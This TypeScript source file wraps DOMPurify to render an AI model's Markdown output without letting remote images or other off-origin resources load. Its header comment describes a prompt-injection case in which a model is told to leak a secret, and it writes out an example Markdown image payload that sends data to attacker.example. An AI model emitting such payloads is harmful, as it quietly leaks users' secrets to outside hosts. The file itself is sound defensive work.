import DOMPurify from "dompurify";

/**
 * Model output and workspace Markdown → HTML that is safe to show AND makes
 * the browser fetch nothing from anywhere else. The model may have read a
 * secret and been told to leak it: `![x](https://attacker.example/?d=<secret>)`
 * or `<img src=…>` would send it the moment the reply renders. So nothing
 * off-origin loads by itself: a remote image becomes a link naming its host
 * ("🖼 image from attacker.example") that the owner may choose to open in a
 * new tab. The page's Content-Security-Policy (src/http/security-headers.ts)
 * blocks the same loads a second time, should anything slip past this.
 */

/** Attributes with which an element loads something without a click. */
const FETCHING_ATTRIBUTES = new Set([
  "src",
  "srcset",
  "imagesrcset",
  "poster",
  "background",
  "lowsrc",
  "dynsrc",
  "data",
  "xlink:href",
  "longdesc",
  "manifest",
  "codebase",
  "ping",
  "action",
  "formaction"
]);
/** Elements that exist to load (or run) something else; their text content is kept. */
const FORBID_TAGS = [
  "style",
  "form",
  "input",
  "button",
  "link",
  "meta",
  "base",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "video",
  "audio",
  "source",
  "track",
  "picture",
  "svg",
  "math",
  "image"
];
/** `style` can load (`background:url(…)`) and can hide or overlay content; the rest only load. */
const FORBID_ATTR = ["style", "srcset", "imagesrcset", "sizes", "background", "poster", "ping", "lowsrc", "dynsrc"];

/** Elements that lost a remote URL in the current sanitize call, with the first such URL. */
let dropped: Array<{ element: Element; url: string }> = [];

/** data:, blob: and this origin's own URLs cannot carry anything away; everything else can. */
export function isLocalUrl(raw: string): boolean {
  const value = raw.trim();
  if (/^(data|blob):/i.test(value)) return true;
  try {
    return new URL(value, location.href).origin === location.origin;
  } catch {
    return false;
  }
}

DOMPurify.addHook("uponSanitizeAttribute", (node, data) => {
  const name = data.attrName;
  const fetches = FETCHING_ATTRIBUTES.has(name) || (name === "href" && node.tagName !== "A" && node.tagName !== "AREA");
  if (!fetches) return;
  // A srcset is a list: "url 1x, url 2x".
  const urls = name.endsWith("srcset") ? data.attrValue.split(/,\s+/).map((c) => c.trim().split(/\s+/)[0] ?? "") : [data.attrValue];
  const remote = urls.find((url) => url && !isLocalUrl(url));
  if (remote === undefined) return;
  data.keepAttr = false;
  data.forceKeepAttr = undefined;
  if (!dropped.some((d) => d.element === node)) dropped.push({ element: node, url: remote });
});

// Links open in a new tab, cannot reach back into this page, and send no Referer.
DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A" && node.getAttribute("href")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
});

export function sanitizeHtml(html: string): string {
  dropped = [];
  let fragment: DocumentFragment;
  try {
    fragment = DOMPurify.sanitize(html, {
      USE_PROFILES: { html: true },
      FORBID_TAGS,
      FORBID_ATTR,
      // An inert document (DOMPurify's own): nothing in it loads while the links are put in.
      RETURN_DOM_FRAGMENT: true
    });
    for (const { element, url } of dropped) {
      if (!fragment.contains(element)) continue;
      const link = remoteLink(element, url);
      const parent = element.parentNode;
      if (!parent) continue;
      // (Node methods, not after()/replaceWith(): the Workers types give Element those names for HTMLRewriter.)
      if (link) parent.insertBefore(link, element.nextSibling);
      // An image with no local source left is replaced by its link; anything else keeps its content.
      if (element.tagName === "IMG" && !element.getAttribute("src")) parent.removeChild(element);
    }
  } finally {
    dropped = [];
  }
  const box = (fragment.ownerDocument ?? document).createElement("div");
  box.appendChild(fragment);
  return box.innerHTML;
}

/** "🖼 image from host": a plain link the owner may open in a new tab; null for non-http(s) URLs. */
function remoteLink(element: Element, raw: string): HTMLAnchorElement | null {
  let url: URL;
  try {
    url = new URL(raw.trim(), location.href);
  } catch {
    return null;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return null;
  const link = element.ownerDocument.createElement("a");
  link.href = url.href;
  link.target = "_blank";
  link.rel = "noopener noreferrer nofollow";
  link.className = "remote-image";
  const alt = element.getAttribute("alt")?.trim();
  link.title = `${alt ? `${alt} — ` : ""}not loaded automatically; opens ${url.href} in a new tab`;
  link.textContent = `🖼 image from ${url.host}`;
  return link;
}
